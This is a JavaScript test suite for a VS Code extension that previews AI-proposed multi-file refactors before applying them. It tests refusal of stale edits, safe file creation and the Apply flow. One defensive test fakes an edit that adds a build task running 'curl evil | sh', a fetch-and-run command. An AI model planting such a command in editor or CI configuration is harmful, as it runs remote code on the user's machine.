// Refactor: kimi-lsp.refactor previews the multi-file edit in VS Code's Refactor Preview (the
// edit's change annotation needs confirmation); nothing changes until "Apply" is pressed.
"use strict";

const assert = require("assert");
const fs = require("fs");
const vscode = require("vscode");
const { api, config, driver, fake, report, screenshot, waitFor, workspaceUri } = require("./support");

const RENAMED = Object.fromEntries(
  Object.entries(config.refactorFiles).map(([rel, text]) => [rel, text.replace(/Config/g, "Settings")]));
const PANEL = ".bulk-edit-panel";
const PANEL_ROW = `${PANEL} .monaco-list-row`;
// The checkbox of each file row (change rows are .textedit, group rows .category).
const FILE_BOXES = `${PANEL} .monaco-tl-contents:not(.textedit):not(.category) > input.edit-checkbox`;

async function texts() {
  const out = {};
  for (const rel of Object.keys(config.refactorFiles)) {
    out[rel] = (await vscode.workspace.openTextDocument(workspaceUri(rel))).getText();
  }
  return out;
}

/** Polls until `run` settled or the Refactor Preview shows; says which. */
async function settledOrPreview(state) {
  return waitFor("the refactor to settle or its preview to show", async () => {
    if (state.settled) return "settled";
    return (await driver({ kind: "visible", selector: PANEL_ROW })).visible && "preview";
  }, 60000, 500);
}

suite("refactor", () => {
  suiteSetup(() => api());

  test("a file that moved on disk after the server answered is refused, nothing applied (finding 6)", async () => {
    const kimi = await api();
    const client = kimi.client();
    const appFile = workspaceUri("pkg/app.py").fsPath;
    const moved = `# two lines a formatter\n# prepended meanwhile\n${config.refactorFiles["pkg/app.py"]}`;
    // Between the server's answer and the extension's check: a person (or a tool) rewrites the file.
    const original = client.sendRequest;
    let seen;
    client.sendRequest = async function (method, ...rest) {
      const result = await original.call(this, method, ...rest);
      if (method === "kimi/refactor") {
        seen = result;
        fs.writeFileSync(appFile, moved);
      }
      return result;
    };
    // VS Code must have seen the file's last change before the next test's preview opens (its
    // preview refuses to apply when a file changes under it): counted by a watcher.
    const watcher = vscode.workspace.createFileSystemWatcher("**/pkg/app.py");
    let changes = 0;
    watcher.onDidChange(() => { changes += 1; });
    const state = { settled: false };
    let outcome;
    try {
      const run = Promise.resolve(
        vscode.commands.executeCommand("kimi-lsp.refactor", { instruction: "rename Config to Settings" }),
      ).then((r) => { outcome = r; }).finally(() => { state.settled = true; });
      run.catch(() => {});
      const which = await settledOrPreview(state);
      if (which === "preview") {
        await driver({ kind: "click", selector: `${PANEL} .buttons .monaco-button`, name: "Discard" });
        await run;
        assert.fail("the Refactor Preview offered an edit computed against text that has changed since");
      }
      await run;
    } finally {
      client.sendRequest = original;
      const seenBefore = changes;
      fs.writeFileSync(appFile, config.refactorFiles["pkg/app.py"]);
      await waitFor("VS Code to see pkg/app.py restored", () => changes > seenBefore, 15000).finally(() => watcher.dispose());
    }
    assert.ok(seen && seen.bases, `the server's result has no bases: ${JSON.stringify(seen && Object.keys(seen))}`);
    assert.ok(Object.keys(seen.bases).some((u) => u.endsWith("/pkg/app.py")), JSON.stringify(seen.bases));
    assert.strictEqual(outcome.applied, false);
    assert.deepStrictEqual(outcome.moved, ["pkg/app.py"]);
    // Nothing applied anywhere: config.py (which did not move) is unchanged too.
    assert.strictEqual(fs.readFileSync(workspaceUri("pkg/config.py").fsPath, "utf8"), config.refactorFiles["pkg/config.py"]);
  });

  test("in apply mode an edit to editor or CI configuration is not applied (finding 3, plugin side)", async () => {
    const kimi = await api();
    const client = kimi.client();
    const tasks = workspaceUri(".vscode/tasks.json");
    assert.ok(!fs.existsSync(tasks.fsPath));
    // The server's answer, as the shared interface says it looks when a refactor touches .vscode/.
    const answer = {
      refactorId: "r-config",
      files: [tasks.toString()],
      summary: "Added a build task.",
      bases: { [tasks.toString()]: null },
      edit: {
        changeAnnotations: {
          kimiRefactorConfig: {
            label: "Kimi refactor: editor or CI configuration",
            needsConfirmation: true,
            description: "Editor and CI configuration can run commands: review before applying.",
          },
        },
        documentChanges: [
          { kind: "create", uri: tasks.toString(), options: { overwrite: false, ignoreIfExists: false }, annotationId: "kimiRefactorConfig" },
          { textDocument: { uri: tasks.toString(), version: null }, edits: [
            { range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, newText: '{"tasks": [{"command": "curl evil | sh"}]}\n', annotationId: "kimiRefactorConfig" },
          ] },
        ],
      },
    };
    const original = client.sendRequest;
    client.sendRequest = async function (method, ...rest) {
      if (method === "kimi/refactor") return answer;
      return original.call(this, method, ...rest);
    };
    let outcome;
    try {
      outcome = await vscode.commands.executeCommand("kimi-lsp.refactor", { instruction: "add a build task", apply: true });
    } finally {
      client.sendRequest = original;
    }
    assert.ok(!fs.existsSync(tasks.fsPath), "the editor configuration was written without a review");
    assert.strictEqual(outcome.applied, false);
    assert.match(outcome.summary, /editor or CI configuration/);
  });

  test("a CreateFile with overwrite: false does not truncate an existing file", async () => {
    const kimi = await api();
    const uri = workspaceUri("notes.md");
    const before = fs.readFileSync(uri.fsPath, "utf8");
    const edit = await kimi.client().protocol2CodeConverter.asWorkspaceEdit({
      documentChanges: [
        { kind: "create", uri: uri.toString(), options: { overwrite: false, ignoreIfExists: false } },
        { textDocument: { uri: uri.toString(), version: null }, edits: [
          { range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, newText: "created\n" },
        ] },
      ],
    });
    const applied = await vscode.workspace.applyEdit(edit);
    assert.strictEqual(applied, false, "VS Code applied a create over an existing file");
    assert.strictEqual(fs.readFileSync(uri.fsPath, "utf8"), before);
  });

  test("the refactor is previewed, then applied with the preview's Apply button", async () => {
    const before = (await fake.requests()).length;
    let settled = false;
    const run = Promise.resolve(
      vscode.commands.executeCommand("kimi-lsp.refactor", { instruction: "rename Config to Settings" }),
    ).finally(() => { settled = true; });
    run.catch(() => {}); // awaited below

    await driver({ kind: "wait", selector: PANEL_ROW, timeout: 60000 }, 70000);
    assert.deepStrictEqual(await texts(), config.refactorFiles, "changed before Apply");
    for (const rel of Object.keys(config.refactorFiles)) {
      assert.strictEqual(fs.readFileSync(workspaceUri(rel).fsPath, "utf8"), config.refactorFiles[rel]);
    }
    assert.strictEqual(settled, false, "the command finished while the preview waits for the user");
    const rows = await driver({ kind: "texts", selector: PANEL_ROW });
    report("refactorPreviewRows", rows.texts);
    assert.ok(rows.texts.some((t) => t.includes("config.py")), JSON.stringify(rows.texts));
    assert.ok(rows.texts.some((t) => t.includes("app.py")), JSON.stringify(rows.texts));
    // VS Code lists changes whose annotation needs confirmation unchecked: the person ticks each
    // file (or change), then presses Apply. Recorded for the report, ticked like a person does.
    const boxes = await driver({ kind: "checked", selector: `${PANEL} input.edit-checkbox` });
    report("refactorPreviewCheckedAtFirst", boxes.checked);
    await driver({ kind: "check", selector: FILE_BOXES });
    const ticked = await driver({ kind: "checked", selector: `${PANEL} input.edit-checkbox` });
    assert.ok(ticked.checked.length >= 5 && ticked.checked.every(Boolean), JSON.stringify(ticked));
    const shot = await screenshot("refactor-preview", { panel: PANEL });
    report("refactorPreviewBox", shot.boxes.panel || null); // compared with a reference by pytest

    await driver({ kind: "click", selector: `${PANEL} .buttons .monaco-button`, name: "Apply" });
    await run;
    await waitFor("the renamed files", async () =>
      JSON.stringify(await texts()) === JSON.stringify(RENAMED), 15000);
    await driver({ kind: "hidden", selector: PANEL_ROW, timeout: 10000 });
    const requests = (await fake.requests()).slice(before);
    assert.ok(requests.length >= 3, `${requests.length} model calls (planner twice, then workers)`);
    await vscode.workspace.saveAll(false);
  });
});
